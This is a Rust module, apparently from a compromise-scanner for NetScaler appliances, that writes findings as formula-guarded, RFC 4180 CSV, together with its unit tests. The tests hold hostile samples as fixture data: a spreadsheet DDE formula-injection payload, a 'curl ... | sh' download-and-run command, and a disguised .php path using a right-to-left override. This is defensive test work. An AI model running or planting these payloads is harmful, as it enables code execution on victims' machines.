//! The CSV report: one row per finding, for spreadsheets and quick filtering.
//!
//! Cells must never carry a raw control character or anything a spreadsheet would run as a
//! formula: evidence text is escaped by [`sanitize`](super::sanitize) and cells that start like
//! a formula get a leading `'`. Quoting follows RFC 4180; records end in CRLF. No summary rows.

use super::sanitize::{escape_bytes, escape_str};
use crate::model::{Finding, Report};
use std::io::{self, Write};

/// The header row's column names, in order.
pub(crate) const HEADER: [&str; 12] = [
    "severity",
    "rule",
    "pack",
    "title",
    "path",
    "line",
    "count",
    "last_line",
    "excerpt",
    "sha256",
    "mtime",
    "reason",
];

/// Writes the header and one row per finding, in report order.
pub(crate) fn render(report: &Report, out: &mut dyn Write) -> io::Result<()> {
    write_record(out, &HEADER)?;
    for f in &report.findings {
        write_record(out, &row(f))?;
    }
    Ok(())
}

fn row(f: &Finding) -> [String; 12] {
    let num = |n: Option<u64>| n.map(|n| n.to_string()).unwrap_or_default();
    let text = |s: &Option<String>| s.as_deref().map(escape_str).unwrap_or_default();
    [
        f.severity.as_str().to_owned(),
        escape_str(&f.rule),
        escape_str(&f.pack),
        escape_str(&f.title),
        escape_bytes(f.path.as_bytes()),
        num(f.line),
        f.count.to_string(),
        num(f.last_line),
        f.excerpt
            .as_ref()
            .map(|b| escape_bytes(&b.0))
            .unwrap_or_default(),
        text(&f.sha256),
        f.mtime.map(|t| t.to_string()).unwrap_or_default(),
        escape_str(&f.reason),
    ]
}

/// Writes one CSV record (RFC 4180: cells quoted where needed, CRLF at the end), every cell
/// formula-guarded. The one record writer of the CSV formats (`csv`, `timeline`).
pub(crate) fn write_record<S: AsRef<str>>(out: &mut dyn Write, cells: &[S]) -> io::Result<()> {
    let line: Vec<String> = cells.iter().map(|c| quote(&guard(c.as_ref()))).collect();
    out.write_all(line.join(",").as_bytes())?;
    out.write_all(b"\r\n")
}

/// Prefixes `'` to a cell that a spreadsheet would read as a formula.
pub(crate) fn guard(cell: &str) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell.to_owned()
    }
}

/// RFC 4180 quoting: a cell holding `,` `"` CR or LF is put in double quotes, with inner
/// double quotes doubled; other cells are written as they are.
pub(crate) fn quote(cell: &str) -> String {
    if cell.contains([',', '"', '\r', '\n']) {
        format!("\"{}\"", cell.replace('"', "\"\""))
    } else {
        cell.to_owned()
    }
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use crate::report::{Format, raw_controls, render_string, sample_report};

    /// A small RFC 4180 reader, to check the output parses back into the cells we meant.
    pub(crate) fn parse(s: &str) -> Vec<Vec<String>> {
        let mut rows = Vec::new();
        let mut row = Vec::new();
        let mut cell = String::new();
        let mut quoted = false;
        let mut chars = s.chars().peekable();
        while let Some(c) = chars.next() {
            match (quoted, c) {
                (true, '"') if chars.peek() == Some(&'"') => {
                    cell.push('"');
                    chars.next();
                }
                (true, '"') => quoted = false,
                (true, c) => cell.push(c),
                (false, '"') if cell.is_empty() => quoted = true,
                (false, ',') => row.push(std::mem::take(&mut cell)),
                (false, '\r') if chars.peek() == Some(&'\n') => {
                    chars.next();
                    row.push(std::mem::take(&mut cell));
                    rows.push(std::mem::take(&mut row));
                }
                (false, c) => cell.push(c),
            }
        }
        assert!(cell.is_empty() && row.is_empty(), "unterminated record");
        rows
    }

    #[test]
    fn header_and_one_row_per_finding() {
        let s = render_string(&sample_report(), Format::Csv, false);
        assert!(s.starts_with(
            "severity,rule,pack,title,path,line,count,last_line,excerpt,sha256,mtime,reason\r\n"
        ));
        let rows = parse(&s);
        assert_eq!(rows.len(), 1 + 4);
        assert!(rows.iter().all(|r| r.len() == HEADER.len()));
        assert_eq!(rows[1][0], "critical");
        assert_eq!(rows[3][6], "5");
        assert_eq!(rows[3][7], "42");
        assert_eq!(rows[4][5], "");
        assert_eq!(rows[4][8], "");
        assert_eq!(s.matches("\r\n").count(), 5);
    }

    #[test]
    fn no_raw_controls_and_evidence_is_escaped() {
        let s = render_string(&sample_report(), Format::Csv, false);
        // Only the record terminators.
        assert_eq!(
            raw_controls(&s.replace("\r\n", ""), &[]),
            Vec::<char>::new()
        );
        assert!(!s.contains('\u{202e}'));
        let rows = parse(&s);
        assert_eq!(rows[1][4], "/netscaler/portal/templates/evil\\xff\\n.xml");
        assert!(rows[1][8].contains("\\x1b[31mred\\x1b[0m\\nnext"));
        assert_eq!(rows[2][4], "/var/netscaler/logon/themes/a\\u{202e}gnp.php");
    }

    #[test]
    fn formulas_are_guarded_and_quotes_doubled() {
        let s = render_string(&sample_report(), Format::Csv, false);
        // `=cmd|' /C calc'!A0,"x"` holds a comma and quotes: guarded, then quoted.
        assert!(s.contains(",\"'=cmd|' /C calc'!A0,\"\"x\"\"\","));
        let rows = parse(&s);
        assert_eq!(rows[2][8], "'=cmd|' /C calc'!A0,\"x\"");
        assert_eq!(rows[3][8], "curl http://198.51.100.7/x | sh");
        for cell in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            assert!(guard(cell).starts_with('\''), "{cell:?}");
        }
        assert_eq!(guard("/var/log"), "/var/log");
        assert_eq!(quote("a\nb"), "\"a\nb\"");
        assert_eq!(quote("plain"), "plain");
        // No cell of the output starts like a formula.
        for row in parse(&s) {
            for cell in row {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell}"
                );
            }
        }
    }
}
